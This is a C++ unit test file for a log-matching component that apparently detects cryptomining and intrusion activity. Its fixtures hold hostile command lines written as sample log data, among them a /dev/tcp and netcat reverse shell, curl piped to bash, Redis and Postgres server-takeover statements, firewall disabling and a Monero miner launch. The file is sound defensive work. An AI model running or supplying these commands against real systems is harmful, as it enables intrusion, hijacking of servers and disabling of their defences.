#include "match/log_matcher.h"

#include <gtest/gtest.h>

#include <map>
#include <set>

#include "match/test_rules.h"

namespace deminer {
namespace {

std::set<std::string> Fired(const LogMatcher& m, const std::vector<LogRule>& rules,
                            std::string_view line, LogKind kind = LogKind::kFile) {
  std::set<std::string> out;
  for (const size_t r : m.RulesOf(line, kind)) out.insert(rules[r].id);
  return out;
}

// Each default rule fires on the lines it was written for, taken from the
// seeds and from what the programs really print, and none fires on ordinary
// lines of the same logs.
TEST(LogRulesTest, DefaultRulesFireOnTheirExamplesAndNotOnOrdinaryLines) {
  const RulePack& pack = DefaultRules();
  std::vector<Gap> problems;
  auto m = LogMatcher::Compile(pack.log_rules, problems);
  ASSERT_TRUE(m) << m.error().message();
  EXPECT_TRUE(problems.empty()) << problems[0].what << ": " << problems[0].reason;
  const std::multimap<std::string, std::string> examples = {
      {"base64-to-shell", "echo IyEvYmluL2Jhc2gK | base64 -d | /bin/bash"},
      {"busybox-download-to-temp", "saving to '/tmp/javae'"},
      {"busybox-download-to-temp", "Saving to: \xE2\x80\x98/tmp/x\xE2\x80\x99"},
      {"seed-c2-host", "Connecting to accrochezvous.fr (51.91.236.255:443)"},
      {"seed-miner-command", "/tmp/javae -o pool.supportxmr.com:443 -k --tls"},
      {"temp-exec-denied", "/bin/sh: /tmp/dbus_daemon: Permission denied"},
      {"temp-exec-denied", "Error: spawn /tmp/dbus_daemon EACCES"},
      {"miner-running-check", "Error: Command failed: ps aux | grep dbus_daemon | grep -v grep"},
      {"download-tool-probe", "Error: Command failed: command -v curl"},
      {"seed-payload-name", "cp /tmp/dbus_daemon /usr/bin/x"},
      {"seed-payload-name", "ps aux | grep dbus_daemon"},
      {"download-pipe-shell", "sh -c curl -fsSL http://10.9.8.7/x.sh | bash"},
      {"download-to-temp", "wget -q http://10.9.8.7/k -O /tmp/kdev"},
      {"chmod-exec-temp", "chmod +x /tmp/kdevtmpfsi"},
      {"chmod-exec-temp", "chmod 777 '/dev/shm/x'"},
      {"run-from-temp-background", "nohup /tmp/kinsing >/dev/null 2>&1 &"},
      {"reverse-shell", "bash -i >& /dev/tcp/10.9.8.7/4444 0>&1"},
      {"reverse-shell", "nc 10.9.8.7 4444 -e /bin/sh"},
      {"busybox-fetch", "busybox wget http://10.9.8.7/a"},
      {"rival-miner-kill", "pkill -9 -f kdevtmpfsi"},
      {"defence-off", "ufw disable"},
      {"defence-off", "iptables -F"},
      {"defence-off", "chattr +i /etc/cron.d/x"},
      {"miner-output",
       "[2026-11-22 21:03:01.123]  net      new job from pool.supportxmr.com:443 diff 120001"},
      {"miner-output", "[2026-11-22 21:03:05.001]  cpu      accepted (1/0) diff 120001 (24 ms)"},
      {"miner-output", "[2026-11-22 21:03:00.500]  randomx  init dataset algo rx/0 (2 threads)"},
      {"miner-output", " * ABOUT        XMRig/6.21.0 gcc/12.2.0"},
      {"miner-name", "Started XMRig miner"},
      {"miner-name", "pkill javae"},
      {"pool-host", "connect to POOL.SUPPORTXMR.COM:443"},
      {"pg-large-object-export", "LOG:  statement: SELECT lo_export(16384, '/tmp/x.so')"},
      {"pg-large-object-export", "LOG:  statement: INSERT INTO pg_largeobject VALUES (1, 0, 'x')"},
      {"pg-large-object-write",
       "LOG:  statement: SELECT lo_from_bytea(4200, decode('7f454c46', 'hex'))"},
      {"pg-c-function",
       "LOG:  statement: CREATE OR REPLACE FUNCTION sys_eval(text) RETURNS text AS "
       "'/tmp/libudf.so', 'sys_eval' LANGUAGE C STRICT"},
      {"pg-c-function",
       "LOG:  statement: create function system(cstring) returns int as '/lib/x86_64-linux-gnu/"
       "libc.so.6', 'system' language 'c' strict"},
      {"pg-copy-program", "LOG:  statement: COPY t FROM PROGRAM 'id'"},
      {"pg-privilege-change", "LOG:  statement: ALTER ROLE bob WITH SUPERUSER"},
      {"pg-host-probe", "LOG:  statement: select sys_eval('lshw -c video')"},
      {"pg-host-probe", "LOG:  statement: select sys_eval('cat /proc/cpuinfo')"},
      {"pg-auth-failure", "FATAL:  password authentication failed for user \"postgres\""},
      {"redis-config-rewrite", "\"config\" \"set\" \"dir\" \"/var/spool/cron\""},
      {"redis-config-rewrite", "CONFIG SET dir /root/.ssh"},
      {"redis-config-rewrite", "config set dbfilename authorized_keys"},
      {"redis-rogue-master", "SLAVEOF 10.9.8.7 6379"},
      {"redis-rogue-master", "1:S 22 Nov 2026 21:03:01.123 * MASTER <-> REPLICA sync started"},
      {"redis-rogue-master", "MODULE LOAD /tmp/exp.so"},
      {"nextjs-command-output", "Error: Command failed: curl -s http://10.9.8.7/x -o /tmp/x"},
      {"nextjs-command-output", "Error: Command failed: /tmp/dbus_daemon"},
      {"nextjs-command-output", "Error: Command failed: cp a /dev/shm/x"},
      {"nextjs-server-action-probe",
       "POST / Next-Action: x body: {\"then\":\"$1:__proto__:then\"} child_process execSync"},
      {"ssh-brute-force", "sshd[81]: Failed password for invalid user admin from 10.9.8.7 port 5"},
      {"ssh-brute-force", "sshd[81]: Invalid user oracle from 10.9.8.7 port 5"},
      {"ssh-root-login", "sshd[81]: Accepted password for root from 10.9.8.7 port 5 ssh2"},
      // A novelty rule: every login is its hit; log.new-source judges them.
      {"ssh-login",
       "Nov 22 21:03:01 vm sshd[81]: Accepted publickey for deploy from 10.0.0.9 port 5"},
  };
  std::set<std::string> covered;
  for (const auto& [id, line] : examples) {
    EXPECT_TRUE(Fired(*m, pack.log_rules, line).contains(id)) << id << ": " << line;
    covered.insert(id);
  }
  for (const LogRule& r : pack.log_rules) {
    EXPECT_TRUE(covered.contains(r.id)) << "no example for log rule " << r.id;
  }
  // Ordinary lines of the same logs. Seed 001's `digest` field alone is
  // normal Next.js: it is on every server error Next.js hides.
  const std::vector<std::string> ordinary = {
      "   \xE2\x9C\x93 Ready in 116ms",
      "TypeError: Cannot read properties of undefined (reading 'aa') { digest: '1626360549' }",
      "Error: fetch failed { digest: '2375525276' }",
      "10.0.0.9 - - [22/Nov/2026:21:03:01 +0000] \"GET /_next/static/x.js HTTP/1.1\" 200 512",
      "2026-11-22 21:03:01.123 UTC [812] LOG:  statement: SELECT * FROM users WHERE id = 1",
      "2026-11-22 21:03:01.123 UTC [812] LOG:  checkpoint complete",
      "1:M 22 Nov 2026 21:03:01.123 * Ready to accept connections tcp",
      "Nov 22 21:03:01 vm CRON[90]: (root) CMD (command -v debian-sa1 > /dev/null)",
      "npm warn deprecated inflight@1.0.6: This module is not supported",
      "Downloading https://10.0.0.9/packages/x.tgz to /home/app/.cache/x",
      "chmod 644 /etc/app/config.yaml",
      "dbus-daemon[512]: [system] Successfully activated service 'org.freedesktop.hostname1'",
      "Error: Command failed: git rev-parse HEAD",
      "curl -fsSL http://10.0.0.9/health",
  };
  for (const std::string& line : ordinary) {
    EXPECT_TRUE(Fired(*m, pack.log_rules, line).empty())
        << line << " fired " << *Fired(*m, pack.log_rules, line).begin();
  }
}

TEST(LogMatcherTest, ChunkCandidatesRulesOfOneLineAndKinds) {
  std::vector<LogRule> rules(2);
  rules[0].id = "pg";
  rules[0].patterns = {"lo_export"};
  rules[0].pattern_where = {"t.yaml:1"};
  rules[0].kinds = 1U << static_cast<unsigned>(LogKind::kPostgres);
  rules[1].id = "span";
  rules[1].patterns = {"a\\s+b"};
  rules[1].pattern_where = {"t.yaml:2"};
  rules[1].kinds = ~0U;
  std::vector<Gap> problems;
  auto m = LogMatcher::Compile(rules, problems);
  ASSERT_TRUE(m);
  // "a\nb" spans two lines: a candidate of the chunk scan, refused alone.
  const std::string chunk = "x lo_export y\nq a\nb\n";
  std::vector<size_t> ends;
  ASSERT_TRUE(m->ScanChunk(chunk, [&](size_t end) { ends.push_back(end); }));
  ASSERT_EQ(ends.size(), 2u);
  EXPECT_EQ(ends[0], chunk.find("lo_export") + 9);
  EXPECT_TRUE(m->RulesOf("q a", LogKind::kFile).empty());
  EXPECT_TRUE(m->RulesOf("b", LogKind::kFile).empty());
  EXPECT_EQ(m->RulesOf("x lo_export y", LogKind::kPostgres), std::vector<size_t>{0});
  EXPECT_TRUE(m->RulesOf("x lo_export y", LogKind::kWeb).empty());  // not a log it reads
  EXPECT_EQ(m->RulesOf("x lo_export y", LogKind::kFile), std::vector<size_t>{0});  // any file
  EXPECT_EQ(m->RulesOf("a  b lo_export", LogKind::kPostgres), (std::vector<size_t>{0, 1}));
}

TEST(LogMatcherTest, RejectedPatternsNameTheirRuleAndLine) {
  std::vector<LogRule> rules(1);
  rules[0].id = "bad";
  rules[0].patterns = {"(?<=x)y", "fine"};
  rules[0].pattern_where = {"logs.yaml:7", "logs.yaml:8"};
  rules[0].kinds = ~0U;
  std::vector<Gap> problems;
  auto m = LogMatcher::Compile(rules, problems);
  ASSERT_TRUE(m);
  ASSERT_EQ(problems.size(), 1u);
  EXPECT_EQ(problems[0].what, "logs.yaml:7");
  EXPECT_NE(problems[0].reason.find("'bad'"), std::string::npos);
  EXPECT_EQ(m->RulesOf("fine", LogKind::kFile), std::vector<size_t>{0});  // the rest still loads
}

TEST(LogMatcherTest, PortablePatternsForGrepAndRipgrep) {
  std::vector<LogRule> rules(2);
  rules[0].patterns = {"plain\\.text", "\\d+", "a*?b", "(?i)x", "\\bword\\s+\\w", "/x\\/y"};
  rules[1].caseless = true;
  rules[1].patterns = {"caseless"};
  EXPECT_EQ(PortableLogPatterns(rules),
            (std::vector<std::string>{"plain\\.text", "\\bword\\s+\\w"}));
}

}  // namespace
}  // namespace deminer
